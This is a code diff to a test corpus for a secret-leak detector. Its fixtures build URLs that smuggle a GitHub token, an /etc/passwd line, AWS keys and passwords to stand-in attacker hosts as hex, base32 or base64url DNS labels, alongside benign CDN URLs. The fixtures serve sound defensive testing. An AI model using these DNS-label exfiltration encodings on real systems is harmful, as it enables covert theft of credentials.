@@ -3,7 +3,7 @@
 // last landing (upper-case seed phrases, .pgpass, Solana keypair arrays, a token split inside its
 // own prefix, lower-case unspaced IBANs, colon/space-delimited hex keys).
 import type { CorpusCase } from "../types.ts";
-import { builder, checksummedToken, iban, mnemonic, Rng, ALNUM, BASE32, HEX } from "./_gen.ts";
+import { base32, builder, checksummedToken, iban, mnemonic, Rng, ALNUM, BASE32, HEX } from "./_gen.ts";
 
 const r = new Rng(0x5ec2406);
 const misses = builder({ category: "known-misses", expect: "secrets" });
@@ -11,26 +11,17 @@ const urlCases: CorpusCase[] = [];
 const url = (label: "positive" | "benign", id: string, note: string, text: string) => urlCases.push({ id: "sec-" + id, kind: "url", category: label === "positive" ? "hostname-exfil" : "hostname-exfil-benign", label, text, note });
 export const cases: CorpusCase[] = [];
 
-function base32(bytes: Uint8Array): string {
-  const A = "abcdefghijklmnopqrstuvwxyz234567";
-  let bits = 0, acc = 0, out = "";
-  for (const b of bytes) {
-    acc = (acc << 8) | b;
-    bits += 8;
-    while (bits >= 5) { out += A[(acc >>> (bits - 5)) & 31]; bits -= 5; }
-  }
-  if (bits > 0) out += A[(acc << (5 - bits)) & 31];
-  return out;
-}
+/** Base32 as DNS labels carry it: lower case, no padding. */
+const b32 = (bytes: Uint8Array): string => base32(bytes).toLowerCase().replace(/=+$/, "");
 const chunks = (s: string, n: number) => s.match(new RegExp(`.{1,${n}}`, "g"))!;
 const ghp = () => checksummedToken(r, "gh" + "p_");
 
 // ---- class 6 (URL kind)
-url("positive", "dns-b32-split", "base32 of a token split over labels", `https://${chunks(base32(Buffer.from("GITHUB_TOKEN=" + ghp())), 30).join(".")}.t.attacker-dns.example/`);
+url("positive", "dns-b32-split", "base32 of a token split over labels", `https://${chunks(b32(Buffer.from("GITHUB_TOKEN=" + ghp())), 30).join(".")}.t.attacker-dns.example/`);
 url("positive", "dns-hex-split", "hex of /etc/passwd line split over labels", `http://${chunks(Buffer.from("root:x:0:0:root:/root:/bin/bash").toString("hex"), 28).join(".")}.x.exfil-host.example/p`);
 url("positive", "dns-b64url-split", "base64url labels", `https://${chunks(Buffer.from("password=" + "Zr7!" + r.alnum(12)).toString("base64url"), 20).join(".")}.c2.example.net/`);
-url("positive", "dns-mixed", "mixed encodings per label", `https://${Buffer.from("user=admin").toString("hex")}.${base32(Buffer.from("pass=Hunter2x9"))}.${Buffer.from("host=db01").toString("base64url")}.d.example.org/`);
-url("positive", "dns-b32-short-labels", "base32 in many short labels", `https://${chunks(base32(Buffer.from("AWS_SECRET_ACCESS_KEY=" + r.str(40, ALNUM))), 12).join(".")}.n.example.com/`);
+url("positive", "dns-mixed", "mixed encodings per label", `https://${Buffer.from("user=admin").toString("hex")}.${b32(Buffer.from("pass=Hunter2x9"))}.${Buffer.from("host=db01").toString("base64url")}.d.example.org/`);
+url("positive", "dns-b32-short-labels", "base32 in many short labels", `https://${chunks(b32(Buffer.from("AWS_SECRET_ACCESS_KEY=" + r.str(40, ALNUM))), 12).join(".")}.n.example.com/`);
 url("positive", "dns-hex-token", "hex of a token in 2 labels", `https://${chunks(Buffer.from(ghp()).toString("hex"), 40).join(".")}.cdn-metrics.example/`);
 url("positive", "path-entropy", "high-entropy path segments to an unknown host", `https://upload.unknown-host.example/${r.str(64, ALNUM)}/${r.str(64, ALNUM)}`);
 url("benign", "dns-cloudfront", "CDN hosts", `https://d${r.str(13, "abcdefghijklmnopqrstuvwxyz0123456789")}.cloudfront.net/assets/app.js`);
@@ -72,5 +63,5 @@ misses.ben("ssh-pub-fingerprint", "ssh public key fingerprint md5", `MD5:${Array
 cases.push(...misses.cases, ...urlCases);
 
 // Added with the fixes (regressions for generalizations found while fixing, not blind cases).
-url("positive", "dns-mixed-short", "short labels, each in its own encoding", `https://${Buffer.from("pw=Zq81x").toString("hex")}.${base32(Buffer.from("db=prod1"))}.${Buffer.from("usr=ops9").toString("base64url")}.q.example.net/`);
+url("positive", "dns-mixed-short", "short labels, each in its own encoding", `https://${Buffer.from("pw=Zq81x").toString("hex")}.${b32(Buffer.from("db=prod1"))}.${Buffer.from("usr=ops9").toString("base64url")}.q.example.net/`);
 cases.push(urlCases[urlCases.length - 1]!);
